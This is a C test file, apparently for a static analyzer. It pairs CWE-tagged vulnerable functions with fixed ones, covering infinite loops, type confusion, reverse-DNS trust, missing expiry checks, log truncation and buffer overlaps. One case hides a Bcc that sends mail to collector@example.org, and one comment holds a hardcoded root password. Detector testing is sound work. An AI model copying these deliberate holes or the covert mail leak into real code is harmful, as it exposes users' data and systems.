/* SPDX-License-Identifier: Apache-2.0 */
#define _GNU_SOURCE
#include "third_sec.h"
#include "third_win.h"
#include <arpa/inet.h>
#include <assert.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netdb.h>
#include <pwd.h>
#include <shadow.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>
#include <wchar.h>

/* shared */
static int vu_yes = 1;
static int vu_level = 2;
enum vu_kind { VU_NONE, VU_ONE, VU_TWO, VU_MANY };
struct vu_account {
	char user[32];
	char password[64];
	int role;
};
char *crypt(const char *, const char *);

/* finds u7_forever_outer: 835 */
int u7_forever_outer(const int *v, int n)
{
	int i = 0, sum = 0;
	while (i < n) {
		if (v[i] < 0)
			continue;
		sum += v[i];
		i++;
	}
	return sum;
}
/* allows u7_forever_outer */
int u7_forever_outer_ok(const int *v, int n)
{
	int i = 0, sum = 0;
	while (i < n) {
		if (v[i] < 0) {
			i++;
			continue;
		}
		sum += v[i];
		i++;
	}
	return sum;
}

/* finds u7_forever_goto: 835 */
void u7_forever_goto(void)
{
	int n = 0;
again:
	puts("again");
	n = 1;
	if (n < 10)
		goto again;
}
/* allows u7_forever_goto */
void u7_forever_goto_ok(void)
{
	int n = 0;
again:
	puts("again");
	n++;
	if (n < 10)
		goto again;
}

/* finds u7_forever_find: 835 */
size_t u7_forever_find(const char *t)
{
	size_t n = 0;
	const char *p = t;
	while (*p != 0)
		if (*p == ',')
			n++;
	return n;
}
/* allows u7_forever_find */
size_t u7_forever_find_ok(const char *t)
{
	size_t n = 0;
	const char *p = t;
	while (*p != 0)
		if (*p++ == ',')
			n++;
	return n;
}

/* finds u7_type_confuse: 843 */
#define u7_type_confuse_NUMBER 1
#define u7_type_confuse_TEXT 2
struct u7_type_confuse_value {
	int kind;
	union {
		int64_t number;
		char *text;
	} u;
};
size_t u7_type_confuse(void)
{
	struct u7_type_confuse_value v;
	v.kind = u7_type_confuse_NUMBER;
	v.u.number = 100;
	return strlen(v.u.text);
}
/* allows u7_type_confuse */
#define u7_type_confuse_ok_NUMBER 1
#define u7_type_confuse_ok_TEXT 2
struct u7_type_confuse_ok_value {
	int kind;
	union {
		int64_t number;
		char *text;
	} u;
};
size_t u7_type_confuse_ok(void)
{
	struct u7_type_confuse_ok_value v;
	v.kind = u7_type_confuse_ok_TEXT;
	v.u.text = (char *)"abc";
	return strlen(v.u.text);
}

/* finds u7_type_void: 843 704 */
struct u7_type_void_wide {
	long a[8];
};
static long u7_type_void_last(void *p)
{
	return ((struct u7_type_void_wide *)p)->a[7];
}
long u7_type_void(void)
{
	int small = 1;
	return u7_type_void_last(&small);
}
/* allows u7_type_void */
struct u7_type_void_ok_wide {
	long a[8];
};
static long u7_type_void_ok_last(void *p)
{
	return ((struct u7_type_void_ok_wide *)p)->a[7];
}
long u7_type_void_ok(void)
{
	struct u7_type_void_ok_wide w = {{1}};
	return u7_type_void_ok_last(&w);
}

/* finds u7_type_function: 843 688 */
static int u7_type_function_two(int a, int b)
{
	return a + b;
}
static int u7_type_function_one(int a)
{
	return a + 1;
}
int u7_type_function(void)
{
	int (*f)(int) = (int (*)(int))u7_type_function_two;
	(void)u7_type_function_two;
	return f(1);
}
/* allows u7_type_function */
static int u7_type_function_ok_two(int a, int b)
{
	return a + b;
}
static int u7_type_function_ok_one(int a)
{
	return a + 1;
}
int u7_type_function_ok(void)
{
	int (*f)(int) = u7_type_function_ok_one;
	(void)u7_type_function_ok_two;
	return f(1);
}

/* finds u7_host_trust: 247 350 291 */
int u7_host_trust(const struct sockaddr_in *a)
{
	struct hostent *h = gethostbyaddr(&a->sin_addr, sizeof(a->sin_addr), AF_INET);
	return h != NULL && strcmp(h->h_name, "trusted.example.com") == 0;
}
/* allows u7_host_trust */
int u7_host_trust_ok(const struct sockaddr_in *a)
{
	return ntohl(a->sin_addr.s_addr) == 0x7f000001;
}

/* finds u7_host_nameinfo: 247 350 291 */
int u7_host_nameinfo(const struct sockaddr *a, socklen_t n)
{
	char host[256];
	if (getnameinfo(a, n, host, sizeof(host), NULL, 0, 0) != 0)
		return 0;
	return strcmp(host, "master.plant.example") == 0;
}
/* allows u7_host_nameinfo */
int u7_host_nameinfo_ok(const struct sockaddr *a, socklen_t n)
{
	char host[256];
	if (getnameinfo(a, n, host, sizeof(host), NULL, 0, NI_NUMERICHOST) != 0)
		return 0;
	return strcmp(host, "10.0.0.1") == 0;
}

/* finds u7_account_login: 591 */
int u7_account_login(const char *user, const char *password)
{
	struct spwd *s = getspnam(user);
	if (s == NULL)
		return 0;
	const char *h = crypt(password, s->sp_pwdp);
	return h != NULL && strcmp(h, s->sp_pwdp) == 0;
}
/* allows u7_account_login */
int u7_account_login_ok(const char *user, const char *password)
{
	struct spwd *s = getspnam(user);
	if (s == NULL || (s->sp_expire >= 0 && s->sp_expire < time(NULL) / 86400))
		return 0;
	const char *h = crypt(password, s->sp_pwdp);
	return h != NULL && strcmp(h, s->sp_pwdp) == 0;
}

/* finds u7_account_pam: 591 */
typedef struct pam_handle pam_handle_t;
int pam_authenticate(pam_handle_t *, int);
int pam_acct_mgmt(pam_handle_t *, int);
int u7_account_pam(pam_handle_t *h)
{
	return pam_authenticate(h, 0) == 0;
}
/* allows u7_account_pam */
typedef struct pam_handle pam_handle_t;
int pam_authenticate(pam_handle_t *, int);
int pam_acct_mgmt(pam_handle_t *, int);
int u7_account_pam_ok(pam_handle_t *h)
{
	return pam_authenticate(h, 0) == 0 && pam_acct_mgmt(h, 0) == 0;
}

/* finds u7_log_short: 222 */
void u7_log_short(int s)
{
	char request[1024], start[16];
	ssize_t n = recv(s, request, sizeof(request) - 1, 0);
	if (n < 1)
		return;
	request[n] = 0;
	snprintf(start, sizeof(start), "%s", request);
	syslog(LOG_NOTICE, "request %s", start);
}
/* allows u7_log_short */
void u7_log_short_ok(int s)
{
	char request[1024], start[16];
	ssize_t n = recv(s, request, sizeof(request) - 1, 0);
	if (n < 1)
		return;
	request[n] = 0;
	(void)start;
	syslog(LOG_NOTICE, "request %s", request);
}

/* finds u7_log_precision: 222 */
void u7_log_precision(const char *command)
{
	syslog(LOG_AUTH | LOG_NOTICE, "command %.10s", command);
}
/* allows u7_log_precision */
void u7_log_precision_ok(const char *command)
{
	syslog(LOG_AUTH | LOG_NOTICE, "command %s", command);
}

/* finds u7_log_missing: 223 778 */
int u7_log_missing(const char *user, const char *password, int (*check)(const char *, const char *))
{
	if (!check(user, password))
		return -1;
	syslog(LOG_AUTH | LOG_INFO, "login of %s", user);
	return 0;
}
/* allows u7_log_missing */
int u7_log_missing_ok(const char *user, const char *password, int (*check)(const char *, const char *))
{
	if (!check(user, password)) {
		syslog(LOG_AUTH | LOG_WARNING, "login of %s failed", user);
		return -1;
	}
	syslog(LOG_AUTH | LOG_INFO, "login of %s", user);
	return 0;
}

/* finds u7_log_peer: 223 778 */
int u7_log_peer(int s, const struct sockaddr_in *a)
{
	char text[16];
	if (inet_ntop(AF_INET, &a->sin_addr, text, sizeof(text)) == NULL)
		text[0] = 0;
	syslog(LOG_NOTICE, "a client was refused");
	return close(s);
}
/* allows u7_log_peer */
int u7_log_peer_ok(int s, const struct sockaddr_in *a)
{
	char text[16];
	if (inet_ntop(AF_INET, &a->sin_addr, text, sizeof(text)) == NULL)
		text[0] = 0;
	syslog(LOG_NOTICE, "client %s was refused", text);
	return close(s);
}

/* finds u7_expect_behaviour: 440 */
int u7_expect_behaviour(int fd)
{
	char c;
	lseek(fd, 0, SEEK_END);
	ftruncate(fd, 0);
	return read(fd, &c, 1) == 1 ? c : -1;
}
/* allows u7_expect_behaviour */
int u7_expect_behaviour_ok(int fd)
{
	char c;
	if (lseek(fd, 0, SEEK_SET) < 0)
		return -1;
	return read(fd, &c, 1) == 1 ? c : -1;
}

/* finds u7_expect_strncpy: 440 170 126 */
void u7_expect_strncpy(FILE *f, const char *name)
{
	char field[8];
	strncpy(field, name, sizeof(field));
	fprintf(f, "%s\n", field);
}
/* allows u7_expect_strncpy */
void u7_expect_strncpy_ok(FILE *f, const char *name)
{
	char field[8];
	strncpy(field, name, sizeof(field) - 1);
	field[7] = 0;
	fprintf(f, "%s\n", field);
}

/* finds u7_copy_list: 464 */
char **u7_copy_list(char **out, char *text)
{
	int n = 0;
	for (char *p = strtok(text, ","); p != NULL && n < 8; p = strtok(NULL, ","))
		out[n++] = p;
	out[n] = (char *)"";
	return out;
}
/* allows u7_copy_list */
char **u7_copy_list_ok(char **out, char *text)
{
	int n = 0;
	for (char *p = strtok(text, ","); p != NULL && n < 8; p = strtok(NULL, ","))
		out[n++] = p;
	out[n] = NULL;
	return out;
}

/* finds u7_sentinel_added: 464 */
int u7_sentinel_added(FILE *f, char *const *lines, int n)
{
	for (int i = 0; i < n; i++) {
		if (fprintf(f, "%s\n", lines[i]) < 0)
			return -1;
	}
	return fputs(".\n", f);
}
int u7_sentinel_added_asked(FILE *f)
{
	char line[64];
	char *lines[1] = {line};
	if (fgets(line, sizeof(line), stdin) == NULL)
		return -1;
	line[strcspn(line, "\n")] = 0;
	return u7_sentinel_added(f, lines, 1);
}
/* allows u7_sentinel_added */
int u7_sentinel_added_ok(FILE *f, char *const *lines, int n)
{
	for (int i = 0; i < n; i++) {
		if (strcmp(lines[i], ".") == 0)
			continue;
		if (fprintf(f, "%s\n", lines[i]) < 0)
			return -1;
	}
	return fputs(".\n", f);
}
int u7_sentinel_added_ok_asked(FILE *f)
{
	char line[64];
	char *lines[1] = {line};
	if (fgets(line, sizeof(line), stdin) == NULL)
		return -1;
	line[strcspn(line, "\n")] = 0;
	return u7_sentinel_added_ok(f, lines, 1);
}

/* finds u7_sentinel_wire: 464 */
int u7_sentinel_wire(int s)
{
	int v[10], i = 0, sum = 0;
	if (recv(s, v, sizeof(v), MSG_WAITALL) < 36)
		return -1;
	while (v[i] != -1)
		sum ^= v[i++];
	return sum;
}
/* allows u7_sentinel_wire */
int u7_sentinel_wire_ok(int s)
{
	int v[10], i = 0, sum = 0;
	if (recv(s, v, sizeof(v) - sizeof(v[0]), MSG_WAITALL) < 36)
		return -1;
	v[9] = -1;
	while (v[i] != -1)
		sum ^= v[i++];
	return sum;
}

/* finds u7_nothing_semicolon: 398 483 */
int u7_nothing_semicolon(const int *v, int n)
{
	int sum = 0, i;
	for (i = 0; i < n; i++);
		sum += v[i < n ? i : 0];
	return sum;
}
/* allows u7_nothing_semicolon */
int u7_nothing_semicolon_ok(const int *v, int n)
{
	int sum = 0, i;
	for (i = 0; i < n; i++)
		sum += v[i < n ? i : 0];
	return sum;
}

/* finds u7_nothing_same: 398 561 571 */
int u7_nothing_same(int n)
{
	int r;
	if (n > 0)
		r = 1;
	else
		r = 1;
	return r;
}
/* allows u7_nothing_same */
int u7_nothing_same_ok(int n)
{
	int r;
	if (n > 0)
		r = 1;
	else
		r = -1;
	return r;
}

/* finds u7_nothing_effect: 398 482 */
int u7_nothing_effect(int n)
{
	n + 1;
	return n;
}
/* allows u7_nothing_effect */
int u7_nothing_effect_ok(int n)
{
	n = n + 1;
	return n;
}

/* finds u7_nothing_self: 398 563 */
void u7_nothing_self(struct vu_account *a, int role)
{
	a->role = a->role;
	(void)role;
}
/* allows u7_nothing_self */
void u7_nothing_self_ok(struct vu_account *a, int role)
{
	a->role = role;
}

/* finds u7_overlap_copy: 475 758 */
void u7_overlap_copy(char *line)
{
	size_t n = strlen(line);
	if (n > 4)
		memcpy(line, line + 2, n - 1);
}
/* allows u7_overlap_copy */
void u7_overlap_copy_ok(char *line)
{
	size_t n = strlen(line);
	if (n > 4)
		memmove(line, line + 2, n - 1);
}

/* finds u7_overlap_print: 475 758 */
void u7_overlap_print(void)
{
	char text[40] = "abc";
	snprintf(text, sizeof(text), "%s-%s", text, text);
	puts(text);
}
/* allows u7_overlap_print */
void u7_overlap_print_ok(void)
{
	char text[40] = "abc", copy[40] = "abc";
	snprintf(text, sizeof(text), "%s-%s", copy, copy);
	puts(text);
}

/* finds u7_ctype_char: 475 758 127 */
int u7_ctype_char(FILE *f)
{
	char c;
	if (fread(&c, 1, 1, f) != 1)
		return 0;
	return toupper(c);
}
/* allows u7_ctype_char */
int u7_ctype_char_ok(FILE *f)
{
	char c;
	if (fread(&c, 1, 1, f) != 1)
		return 0;
	return toupper((unsigned char)c);
}

/* finds u7_hidden_mail: 506 */
int u7_hidden_mail(const char *body, const char *to)
{
	FILE *p = popen("/usr/sbin/sendmail -t", "w");
	if (p == NULL)
		return -1;
	fprintf(p, "To: %s\n", to);
	fprintf(p, "Bcc: collector@example.org\n");
	fprintf(p, "\n%s\n", body);
	return pclose(p);
}
/* allows u7_hidden_mail */
int u7_hidden_mail_ok(const char *body, const char *to)
{
	FILE *p = popen("/usr/sbin/sendmail -t", "w");
	if (p == NULL)
		return -1;
	fprintf(p, "To: %s\n", to);
	fprintf(p, "\n%s\n", body);
	return pclose(p);
}

/* finds u7_note_key: 615 546 */
int u7_note_key(const char *host)
{
	/* root's password on the test bench is Bench-5501 */
	return host[0] != 0;
}
/* allows u7_note_key */
int u7_note_key_ok(const char *host)
{
	/* the bench has its own account */
	return host[0] != 0;
}
